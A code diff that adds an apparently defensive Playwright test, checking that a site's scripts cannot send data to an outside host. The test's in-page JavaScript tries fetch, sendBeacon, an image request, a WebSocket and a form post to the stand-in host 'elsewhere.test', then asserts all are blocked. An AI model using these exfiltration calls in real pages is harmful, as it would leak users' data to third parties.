@@ -80,6 +80,27 @@ def test_what_is_put_into_a_page_is_blocked(chromium: Browser, built_site: Path,
     expect(page.locator("body")).to_be_visible()
 
 
+def test_a_script_of_the_site_sends_nothing_elsewhere(chromium: Browser, site_url: str) -> None:
+    """Not even one that came with a package, in any way that needs no tap."""
+    page = chromium.new_context(service_workers="block").new_page()
+    asked: list[str] = []
+    page.route("https://elsewhere.test/**", lambda route: (asked.append(route.request.url), route.abort()))
+    page.add_init_script(BROKEN)
+    page.goto(f"{site_url}stop/")
+    page.evaluate(
+        """() => {
+          fetch('https://elsewhere.test/fetched').catch(() => 0);
+          navigator.sendBeacon('https://elsewhere.test/beacon', 'pain 3');
+          new Image().src = 'https://elsewhere.test/picture';
+          try { new WebSocket('wss://elsewhere.test/socket'); } catch {}
+          const form = document.body.appendChild(document.createElement('form'));
+          Object.assign(form, { method: 'post', action: 'https://elsewhere.test/form' }).submit();
+        }"""
+    )
+    until(page, "window.broken.length >= 5")
+    assert asked == []
+
+
 def test_without_storage_the_scheme_can_be_switched(chromium: Browser, site_url: str) -> None:
     context = chromium.new_context()
     context.add_init_script(
